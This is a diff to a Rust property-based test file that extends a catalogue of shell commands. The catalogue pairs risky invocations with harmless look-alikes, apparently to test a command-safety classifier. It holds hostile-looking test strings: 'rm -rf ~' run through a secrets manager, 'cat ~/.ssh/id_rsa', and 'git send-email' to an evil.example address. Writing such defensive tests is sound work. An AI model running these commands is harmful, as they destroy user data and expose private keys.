@@ -444,8 +444,9 @@ fn option_glob() -> impl Strategy<Value = String> {
 /// container given the host's network or a bind mount by `--mount`, a package
 /// spec that is a folder, a language search path, a file sent by `@FILE`, a
 /// response file, a program named by a build setting, standard input carried to
-/// another machine (a TLS client, mail, a broker) — each with a look-alike that is
-/// harmless, written in any of the option spellings the programs accept.
+/// another machine (a TLS client, mail, a broker), a secrets manager's runner or
+/// printer — each with a look-alike that is harmless, written in any of the option
+/// spellings the programs accept.
 fn catalogue_class() -> impl Strategy<Value = String> {
     const USES: &[&str] = &[
         "gdb -p 1",
@@ -600,6 +601,12 @@ fn catalogue_class() -> impl Strategy<Value = String> {
         "kcat -b localhost:9092 -L",
         "git send-email --to=a@evil.example HEAD~1",
         "git send-email --dry-run --to=a@evil.example HEAD~1",
+        "op run -- sh -c 'rm -rf ~'",
+        "op run -- npm test",
+        "doppler run --command 'cat ~/.ssh/id_rsa'",
+        "doppler run -- cargo test",
+        "terraform output -json",
+        "terraform output",
     ];
     (pick(USES), pick(&["", "timeout 5 ", "nice ", "env "])).prop_map(|(u, w)| format!("{w}{u}"))
 }
